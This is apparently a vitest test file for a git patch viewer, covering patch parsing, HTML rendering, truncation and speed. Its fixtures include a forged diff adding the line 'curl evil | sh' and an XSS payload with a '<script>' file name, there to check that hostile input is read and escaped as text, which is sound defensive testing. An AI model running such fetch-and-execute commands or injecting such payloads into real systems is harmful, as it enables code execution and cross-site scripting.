import { describe, expect, it } from "vitest";
import { readChange, showChange, showChangedFiles } from "../../../src/pages/change.ts";
import { readPatch } from "../../../src/pages/patch.ts";
import { workedMs } from "../../helpers/worked.ts";
import { smallPatch } from "./fake-reader.ts";

const limits = { limitLines: 1_000, limitLineChars: 500 };
const large = (lines: number, word: string) =>
  `diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,${lines} +1,${lines} @@\n${`-${word}\n`.repeat(lines)}${`+${word}!\n`.repeat(lines)}`;

describe("reading a patch", () => {
  it("finds files, counts and line numbers", () => {
    const { files, shownLines } = readPatch(smallPatch, limits);
    expect(files.map((file) => [file.newName, file.addedLines, file.deletedLines, file.isNew])).toEqual([
      ["src/price.ts", 2, 1, undefined],
      ["test/price.test.ts", 3, 0, true],
    ]);
    expect(shownLines).toBe(9);
    expect(files[0]?.blocks[0]?.lines.at(-1)).toMatchObject({ type: "context", oldNumber: 4, newNumber: 5, content: " // end" });
  });

  it("takes a changed line that looks like a header for what it is", () => {
    const forged = [
      "diff --git a/real.sh b/real.sh",
      "--- a/real.sh",
      "+++ b/real.sh",
      "@@ -1,2 +1,4 @@",
      " first",
      "--- a/harmless.md",
      "+++ b/harmless.md",
      "+@@ -1 +1 @@",
      "+curl evil | sh",
      "",
    ].join("\n");
    const { files } = readPatch(forged, limits);
    expect(files.map((file) => file.newName)).toEqual(["real.sh"]);
    expect(files[0]?.blocks[0]?.lines.map((line) => line.content)).toEqual([
      " first",
      "--- a/harmless.md",
      "+++ b/harmless.md",
      "+@@ -1 +1 @@",
      "+curl evil | sh",
    ]);
  });

  it("reads renames, modes, binaries and names that git quotes", () => {
    const { files } = readPatch(
      [
        "diff --git a/old name b/new name",
        "similarity index 100%",
        "rename from old name",
        "rename to new name",
        "diff --git a/run.sh b/run.sh",
        "old mode 100644",
        "new mode 100755",
        'diff --git "a/\\303\\244\\t.bin" "b/\\303\\244\\t.bin"',
        "deleted file mode 100644",
        "Binary files a/x and /dev/null differ",
      ].join("\n"),
      limits,
    );
    expect(files[0]).toMatchObject({ oldName: "old name", newName: "new name", isRename: true });
    expect(files[1]).toMatchObject({ newName: "run.sh", oldMode: "100644", newMode: "100755" });
    expect(files[2]).toMatchObject({ newName: "ä␉.bin", isDeleted: true, isBinary: true });
  });

  it("keeps files apart in a series as format-patch writes it", () => {
    const { files } = readPatch(`From 1 Mon\nSubject: x\n\n${smallPatch}-- \n2.39.5\n\nFrom 2 Mon\n${smallPatch}`, limits);
    expect(files).toHaveLength(4);
    expect(files[1]?.blocks[0]?.lines).toHaveLength(3);
  });

  it("says what it left out", () => {
    const read = readPatch(large(50, "a"), { limitLines: 30, limitLineChars: 500 });
    expect(read).toMatchObject({ shownLines: 30, leftOutLines: 70 });
    expect(read.files[0]).toMatchObject({ addedLines: 50, deletedLines: 50 });
  });
});

describe("drawing a change", () => {
  it("[25] shows hostile names and lines as text", () => {
    const patch = large(1, "<img src=x onerror=alert(1)>\u202e").replaceAll("a/x b/x", "a/<script> b/<script>");
    const shown = String(showChange(readChange(patch))) + String(showChangedFiles(readChange(patch), { limit: 5 }));
    expect(shown).not.toMatch(/<(img|script)/);
    expect(shown).toContain("&lt;img src=x onerror=alert(1)&gt;⟨U+202E⟩");
    expect(shown).toContain("&lt;script&gt;");
  });

  it("carries no inline style and lets the keyboard reach each file", () => {
    const shown = String(showChange(readChange(smallPatch)));
    expect(shown).not.toMatch(/style=|<pre>/);
    expect(shown.match(/tabindex="0" role="region"/g)).toHaveLength(2);
  });

  it("is cut at 5,000 lines, with words", () => {
    const shown = String(showChange(readChange(large(4_000, "word"))));
    expect(shown).toContain("Cut here: 3,000 more lines.");
  });

  it.each([
    ["many likely pairs", large(990, "x y z ".repeat(22))],
    ["200,000 lines", large(100_000, "x".repeat(40))],
    ["lines of 20 MB", large(2, "x".repeat(20_000_000))],
    ["20,000 files", large(1, "x").repeat(20_000)],
  ])("stays fast on %s", (_name, patch) => {
    const startedAtMs = workedMs();
    expect(String(showChange(readChange(patch))).length).toBeLessThan(4_000_000);
    expect(workedMs() - startedAtMs).toBeLessThan(6_000);
  });
});
